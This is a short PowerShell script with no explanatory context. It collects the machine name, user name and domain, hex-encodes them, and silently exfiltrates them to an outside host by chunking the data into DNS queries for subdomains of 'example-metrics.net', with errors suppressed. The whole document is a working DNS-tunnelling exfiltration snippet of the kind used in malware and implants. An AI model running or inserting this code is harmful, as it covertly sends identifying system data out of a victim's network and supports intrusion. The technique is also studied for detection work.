$info = "$env:COMPUTERNAME|$env:USERNAME|$env:USERDOMAIN"
$bytes = [Text.Encoding]::UTF8.GetBytes($info)
$hex = ($bytes | ForEach-Object { $_.ToString('x2') }) -join ''

$seq = 0
for ($i = 0; $i -lt $hex.Length; $i += 56) {
    $len = [Math]::Min(56, $hex.Length - $i)
    $label = $hex.Substring($i, $len)
    Resolve-DnsName -Name "$label.$seq.w.example-metrics.net" -Type A -ErrorAction SilentlyContinue | Out-Null
    $seq++
}
